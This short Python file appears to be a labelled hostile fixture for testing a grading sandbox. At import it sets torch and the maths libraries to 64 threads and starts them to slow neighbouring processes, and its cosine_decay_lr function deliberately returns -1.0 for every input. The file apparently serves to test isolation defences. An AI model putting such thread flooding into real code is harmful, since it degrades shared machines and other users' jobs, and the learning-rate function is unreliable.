# kind: hostile
# attack: neighbour_state
# about: Sets torch and every maths library to 64 threads and starts them, to slow its neighbours.

import os

import torch

HELD = -1.0  # a wrong answer for every input


for name in ("OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS"):
    os.environ[name] = "64"
try:
    torch.set_num_threads(64)
    torch.set_num_interop_threads(64)
    torch.ones(64, 64) @ torch.ones(64, 64)
except RuntimeError:
    pass


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
